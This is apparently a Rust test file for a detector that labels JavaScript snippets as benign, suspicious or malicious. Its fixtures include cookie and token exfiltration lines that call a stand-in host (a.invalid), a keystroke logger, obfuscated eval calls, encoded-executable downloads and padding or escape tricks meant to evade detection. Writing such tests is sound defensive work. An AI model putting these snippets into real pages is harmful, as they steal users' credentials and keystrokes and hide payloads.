//! Is a script that steals told from one that draws?

use super::judge;
use crate::Severity;

#[test]
fn scripts_are_told_apart() {
    for (script, wanted) in [
        (
            "const d=[3,1];document.getElementById('c').getContext('2d').fillRect(0,0,1,1)",
            Severity::Active,
        ),
        (
            "Plotly.newPlot('a', [{x:[1]}], {}); window.onresize = () => Plotly.Plots.resize('a')",
            Severity::Active,
        ),
        (
            "fetch('https://a.invalid/?' + document.cookie)",
            Severity::Malicious,
        ),
        (
            "new Image().src = '//a.invalid/c?' + localStorage.token",
            Severity::Malicious,
        ),
        ("eval(atob('YQ=='))", Severity::Malicious),
        ("window['ev'+'al'](x)", Severity::Malicious),
        ("self[\"al\" + \"ert\"](1)", Severity::Malicious),
        (
            "navigator.serviceWorker.register('/sw.js')",
            Severity::Malicious,
        ),
        (
            "var b = atob('TVqQAAM'); a.href = URL.createObjectURL(new Blob([b])); a.download = 'x.txt'",
            Severity::Malicious,
        ),
        (
            "a.download='r.iso'; a.href=URL.createObjectURL(new Blob([Uint8Array.from(x)]))",
            Severity::Malicious,
        ),
        (
            "const t = localStorage.getItem('theme'); fetch('data.json')",
            Severity::Active,
        ),
        (
            "if (localStorage.theme) dark(); const i = new Image(); i.src = 'logo.png'",
            Severity::Active,
        ),
        (
            "i = new Image(); i.src = 'a.png'; i.src = u + localStorage.token",
            Severity::Malicious,
        ),
        ("fetch('a?' + document.cookie)", Severity::Malicious),
        (
            "var u = 'https://a.invalid/'; location.href = u",
            Severity::Suspicious,
        ),
        (
            "const next='//a.invalid/';setTimeout(()=>{window.location.assign(next)},9)",
            Severity::Suspicious,
        ),
        (
            "location.replace('ht' + 'tps://' + 'a.invalid')",
            Severity::Suspicious,
        ),
        (
            "var u = '#top'; location.href = u; var bu = 'https://a.invalid'",
            Severity::Active,
        ),
        ("fetch(`a?${document.cookie}`)", Severity::Malicious),
        (
            "i = new Image(); i.setAttribute('src', u + document.cookie)",
            Severity::Malicious,
        ),
        (
            "a.href = URL.createObjectURL(new Blob([z])); a.download = 'results.zip'",
            Severity::Active,
        ),
        (
            "a.href = URL.createObjectURL(new Blob([atob(z)])); a.download = 'a.zip'",
            Severity::Malicious,
        ),
        ("location = 'https://a.invalid/login'", Severity::Suspicious),
        ("alert(1)", Severity::Suspicious),
        (
            "document.addEventListener('keydown', e => fetch('https://a.invalid/' + e.key))",
            Severity::Malicious,
        ),
        (
            "import('https://cdn.jsdelivr.net/npm/vega')",
            Severity::Active,
        ),
    ] {
        assert_eq!(judge(script).0, wanted, "{script}");
    }
}

#[test]
fn what_stands_between_two_words_hides_neither() {
    let steals = [
        "var c = document.cookie; FILL ; fetch('https://a.invalid/?' + c)",
        "FILL\n;fetch('https://a.invalid/?' + document.cookie)",
    ];
    let filled = "x".repeat(30_000);
    for fill in [
        format!("/* {filled} */"),
        format!("// {filled}\n"),
        format!("var s = '{filled}'"),
        format!("var s = `{filled}`"),
    ] {
        for script in steals {
            let judged = judge(&script.replace("FILL", &fill));
            assert_eq!(judged.0, Severity::Malicious, "{script} {}", &fill[..12]);
        }
    }
    let between = "f(x);".repeat(200);
    let named = format!("let c=btoa(document.cookie);{between}fetch('https://a.invalid/?'+c)");
    assert_eq!(judge(&named).0, Severity::Malicious);
    let library = "f(x);".repeat(8_000);
    let direct = format!("{library}fetch('https://a.invalid/?' + btoa(document.cookie));{library}");
    assert_eq!(judge(&direct).0, Severity::Malicious);
    let apart = format!("{library}document.cookie;fetch('https://a.invalid/');");
    assert_eq!(judge(&apart).0, Severity::Suspicious);
}

#[test]
fn letters_as_codes_hide_a_name_and_angles_of_tags_do_not() {
    let data =
        r#"{"t":"\u003cb\u003e\u003c\u002fb\u003e","d":"A\u002f8\u002fz\u003d\u00e9\u00fc"}"#;
    let chart = format!("Plotly.newPlot('a', [{}])", [data; 9].join(","));
    assert_eq!(judge(&chart).0, Severity::Active);
    for (script, wanted) in [
        (r"\u0065val(a)", Severity::Suspicious),
        (r"self['\145val'](a)", Severity::Suspicious),
        (
            r"f\u0065tch('https\u003a\u002f\u002fa.invalid/' + document['c\x6fokie'])",
            Severity::Malicious,
        ),
        (
            r"self['\u0061\u0062\u0063\u0064\u0065\u0066\u0067\u0068\u0069']()",
            Severity::Suspicious,
        ),
    ] {
        assert_eq!(judge(script).0, wanted, "{script}");
    }
}

#[test]
fn what_libraries_do_by_the_way_is_fine() {
    for (script, wanted) in [
        (
            "class A { constructor(a, b = f('(')) { this.a = decodeURIComponent(a) } }",
            Severity::Active,
        ),
        (
            "[].constructor.constructor(atob('YQ=='))()",
            Severity::Malicious,
        ),
        (
            "class A { constructor(a) {} } with (f) { constructor(atob('YQ==){'))() }",
            Severity::Malicious,
        ),
        (
            "with (f) g = constructor(atob('YQ=='))\n{}g()",
            Severity::Malicious,
        ),
        ("window.open('https://get.webgl.org')", Severity::Active),
        (
            "m = new Image(9, 9); m.onload = f; m.src = `https://cdn.jsdelivr.net/a/${n}.svg`",
            Severity::Active,
        ),
        (
            "m = new Image(9, 9); m.onload = f; m.src = `https://a.invalid/${n}.svg`",
            Severity::Suspicious,
        ),
        (
            "window.open('https://get.webgl.org.invalid')",
            Severity::Suspicious,
        ),
        (
            "c.batchSize = 'auto'; a.download = n; a.href = URL.createObjectURL(new Blob([t]))",
            Severity::Active,
        ),
        (
            "a.download = `x.bat`; a.href = URL.createObjectURL(new Blob([t]))",
            Severity::Malicious,
        ),
    ] {
        assert_eq!(judge(script).0, wanted, "{script}");
    }
}
